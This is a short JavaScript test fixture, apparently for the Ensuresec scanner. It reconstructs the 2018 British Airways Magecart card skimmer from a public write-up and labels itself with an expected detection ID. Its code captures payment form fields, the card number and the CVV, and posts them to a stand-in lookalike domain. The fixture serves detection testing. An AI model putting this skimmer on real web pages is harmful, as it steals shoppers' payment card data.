// expect: ES-SHOP-001
// Written for Ensuresec's tests from the public description of the British Airways skimmer (Magecart, 2018):
// RiskIQ, Yonathan Klijnsma, "Inside the Magecart Breach of British Airways: How 22 Lines of Code Claimed 380,000
// Victims" (2018-09-11). A few lines appended to a legitimate library bind to mouseup/touchend on the payment
// button, serialise the payment form and post it as JSON to a lookalike domain. Not the original code.
window.onload = function () {
  jQuery("#submitButton").bind("mouseup touchend", function (e) {
    var n = {};
    jQuery("#paymentForm").serializeArray().map(function (a) { n[a.name] = a.value; });
    var cardNumber = document.getElementById("cardNumber").value;
    n.cardNumber = cardNumber;
    n.cvv = document.getElementById("cvv").value;
    var e = JSON.stringify(n);
    setTimeout(function () {
      jQuery.ajax({ type: "POST", async: true, url: "https://lookalike-airline.example/gateway/app/dataprocessing/api/", data: e, dataType: "application/json" });
    }, 500);
  });
};
